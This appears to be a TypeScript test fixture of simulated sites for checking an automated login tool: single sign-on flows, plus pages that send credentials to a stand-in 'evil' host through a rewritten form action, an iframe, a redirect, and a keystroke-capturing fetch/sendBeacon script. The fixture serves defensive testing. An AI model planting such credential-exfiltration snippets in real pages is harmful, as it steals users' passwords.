import { evil, form, page, password, plain, redirect, type Site, user, welcome } from './site.ts'

const login = (buttons: string) => page(`<h1>Log in</h1>${form()}<p>or</p>${buttons}`)

/** An identity provider on its own host, which redirects back with a grant. */
const provider = (host: string, back: (path: string) => string): Site['pages'] => ({
  [`${host}/authorize`]: () =>
    page(
      `<h1>Sign in to IdP</h1><form method="post" action="/check"><label>Username <input name="user" autocomplete="username"></label><label>Password <input type="password" name="password"></label><button>Sign in</button></form>`,
    ),
  [`${host}/check`]: ({ sent }) =>
    sent.get('user') === user && sent.get('password') === password
      ? page(back('/callback?grant=yes'))
      : page('<p role="alert">Invalid username or password</p>'),
})

const callback = (name: string): Site['pages'] => ({
  '/callback': ({ query, sent }) =>
    query.get('grant') === 'yes' || sent.get('SAMLResponse') === 'c2lnbmVk'
      ? welcome()
      : redirect(`http://${name}.test/login`),
})

/** Logins with another service, and pages that ask for the password of another account. */
export const providerSites: readonly Site[] = [
  {
    name: 'oauth-redirect',
    allowed: ['idp.test'],
    pages: {
      ...plain(login('<a href="http://idp.test/authorize?client=1">Continue with Google</a>')),
      ...provider('idp.test', (path) => `<script>location = 'http://oauth-redirect.test${path}'</script>`),
      ...callback('oauth-redirect'),
    },
    choices: ['sso:google'],
    ends: 'logged_in',
  },
  {
    name: 'oauth-popup',
    allowed: ['idp2.test'],
    pages: {
      ...plain(
        login(
          `<button onclick="window.open('http://idp2.test/authorize', 'idp', 'width=500,height=600'); window.addEventListener('message', () => location = '/callback?grant=yes')"><svg width="10" height="10"><title>GitHub</title></svg> Sign in with GitHub</button>`,
        ),
      ),
      ...provider('idp2.test', () => `<script>opener.postMessage('granted', '*'); close()</script>`),
      ...callback('oauth-popup'),
    },
    choices: ['sso:github'],
    ends: 'logged_in',
  },
  {
    name: 'saml',
    allowed: ['idp3.test'],
    pages: {
      ...plain(page('<h1>Sign in</h1><a href="http://idp3.test/authorize?saml=1">Single sign-on (SSO)</a>')),
      ...provider(
        'idp3.test',
        () =>
          `<form method="post" action="http://saml.test/callback"><input type="hidden" name="SAMLResponse" value="c2lnbmVk"><noscript><button>Continue</button></noscript></form><script>document.forms[0].submit()</script>`,
      ),
      ...callback('saml'),
    },
    choices: ['sso:sso'],
    ends: 'logged_in',
  },
  {
    name: 'account-picker',
    allowed: ['idp4.test'],
    pages: {
      ...plain(login('<a href="http://idp4.test/choose">Sign in with Microsoft</a>')),
      'idp4.test/choose': () =>
        page(
          `<h1>Pick an account</h1><div role="list"><div role="button" tabindex="0" onclick="location='http://account-picker.test/callback?grant=no'">bob@example.com</div><div role="button" tabindex="0" onclick="location='/consent'">${user}</div><div role="button" tabindex="0">Use another account</div></div>`,
        ),
      'idp4.test/consent': () =>
        page(
          `<h1>Example wants to access your account</h1><button onclick="location='http://account-picker.test/callback?grant=yes'">Allow</button><button>Cancel</button>`,
        ),
      ...callback('account-picker'),
    },
    choices: ['sso:microsoft', user, 'Allow'],
    ends: 'logged_in',
  },
  {
    name: 'provider-outside',
    pages: {
      ...plain(login('<a href="http://idp5.test/authorize?oauth">Continue with Google</a>')),
      ...provider('idp5.test', () => ''),
    },
    choices: ['sso:google'],
    ends: 'error',
    problem: 'domain_not_allowed',
  },
  {
    name: 'action-elsewhere',
    pages: plain(page(`<h1>Log in</h1>${form().replace('action="/login"', `action="http://${evil}/take"`)}`)),
    ends: 'error',
    problem: 'domain_not_allowed',
  },
  {
    name: 'frame-elsewhere',
    pages: {
      ...plain(page(`<h1>Log in</h1><iframe src="http://${evil}/form" width="400" height="300"></iframe>`)),
      [`${evil}/form`]: () => page(form()),
    },
    ends: 'error',
    problem: 'domain_not_allowed',
  },
  {
    name: 'action-changed',
    pages: plain(
      page(
        `<h1>Log in</h1>${form()}<script>document.forms[0].addEventListener('submit', () => { document.forms[0].action = 'http://${evil}/take' })</script>`,
      ),
    ),
    ends: 'error',
    problem: 'domain_not_allowed',
  },
  {
    name: 'redirect-elsewhere',
    pages: {
      ...plain(page(`<h1>Log in</h1>${form().replace('/login', '/relay')}`)),
      '/relay': () => ({ status: 307, location: `http://${evil}/take` }),
    },
    ends: 'error',
    problem: 'domain_not_allowed',
  },
  {
    name: 'script-elsewhere',
    pages: plain(
      page(
        `<h1>Log in</h1>${form()}<script>document.getElementById('p').addEventListener('input', (event) => { fetch('http://${evil}/take?p=' + encodeURIComponent(event.target.value), { mode: 'no-cors' }); navigator.sendBeacon('http://${evil}/take', event.target.value) })</script>`,
      ),
    ),
    ends: 'logged_in',
    problem: 'domain_not_allowed',
  },
]
